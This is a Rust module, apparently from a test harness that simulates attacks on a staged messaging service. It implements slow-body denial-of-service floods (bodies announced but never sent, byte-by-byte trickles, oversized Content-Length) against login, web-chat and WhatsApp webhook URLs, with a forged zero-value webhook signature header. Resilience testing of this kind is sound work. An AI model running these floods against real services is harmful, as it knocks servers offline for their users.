//! Bodies that are announced and do not come.

use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::{Attack, crowd};
use crate::{
    http1,
    sources::Source,
    stage::{Ground, ORIGIN, Stage},
};

const LOGIN: &str = "/messaging-service/WhatsApp/authenticate/retrieveApiKey";
const CALLBACK: &str = "/providers/whatsapp-cloud/webhook";

/// The head of a request to one of the three URLs for callers without a key.
fn head_of(ground: &Ground, source: Source, number: u32, length: usize) -> String {
    let json = format!("Content-Type: application/json\r\nContent-Length: {length}\r\n");
    match number % 3 {
        0 => http1::head(ground, source, "POST", LOGIN, &json),
        1 => {
            let path = format!("/web-chat/sessions?site={}", ground.site.key);
            http1::head(ground, source, "POST", &path, &format!("Origin: {ORIGIN}\r\n{json}"))
        }
        _ => http1::head(ground, source, "POST", CALLBACK, &format!("{}{json}", forged())),
    }
}

fn forged() -> String {
    format!("X-Hub-Signature-256: sha256={}\r\n", "0".repeat(64))
}

/// Four addresses, at each of three URLs 256 requests that announce a body and send none.
pub async fn announced(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(768, move |number| {
        let ground = ground.clone();
        async move {
            let source = ground.sources.attacker(number / 3 % 4);
            let length = if number % 3 == 1 { 1_000 } else { 200_000 };
            let head = format!("{}\r\n", head_of(&ground, source, number, length));
            if let Some(mut connection) = http1::sent(&ground, source, head.as_bytes()).await {
                http1::drain(&mut connection).await;
            }
        }
    })
}

/// 2,300 addresses, of each one body that comes at a byte in two seconds.
pub async fn slow(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(2_300, move |number| {
        let ground = ground.clone();
        async move {
            let source = ground.sources.attacker(number);
            let head = format!("{}\r\n{{", head_of(&ground, source, number, 50_000));
            let Some(mut connection) = http1::sent(&ground, source, head.as_bytes()).await else { return };
            while connection.write_all(b" ").await.is_ok() {
                tokio::time::sleep(Duration::from_secs(2)).await;
            }
        }
    })
}

/// 256 callbacks that announce 3 MB and send 18 bytes.
pub async fn callbacks(stage: &Stage) -> Attack {
    let ground = stage.ground();
    crowd(256, move |number| {
        let ground = ground.clone();
        async move {
            let source = ground.sources.attacker(number % 64);
            let more = format!("{}Content-Type: application/json\r\nContent-Length: 3000000\r\n", forged());
            let head = http1::head(&ground, source, "POST", CALLBACK, &more);
            let begun = format!("{head}\r\n{{\"object\":\"whatsap");
            if let Some(mut connection) = http1::sent(&ground, source, begun.as_bytes()).await {
                http1::drain(&mut connection).await;
            }
        }
    })
}
